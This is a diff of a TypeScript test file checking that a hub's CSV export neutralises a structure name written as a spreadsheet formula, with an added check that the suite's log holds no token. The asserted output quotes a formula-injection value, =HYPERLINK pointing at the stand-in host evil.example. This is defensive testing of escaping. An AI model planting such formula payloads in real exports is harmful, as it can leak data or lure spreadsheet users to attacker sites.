@@ -1,7 +1,7 @@
 import { upsertStructure } from "../../src/hub/db/repositories/structures";
 import { createToken } from "../../src/hub/db/repositories/tokens";
 import { HOSTILE_NAME, csvRows } from "../support/csv";
-import { http, startTestHub, type TestHub } from "./support/hub";
+import { expectNoSecretInLog, http, startTestHub, type TestHub } from "./support/hub";
 import { makePayload } from "./support/payload";
 
 /** The hub's CSV consolidation with a structure registered under a formula as its name (issue 15). */
@@ -29,4 +29,8 @@ test("GET /api/v1/consolidation as CSV writes a « Raison sociale » =HYPERLINK(
     expect(row[rows[0].indexOf("Raison sociale")]).toBe(`'${HOSTILE_NAME}`);
     expect(r.text).toContain(`"'=HYPERLINK(""http://evil.example/`);
   }
+});
+
+test("the log of this suite (level info) holds no token", () => {
+  expectNoSecretInLog(hub);
 });
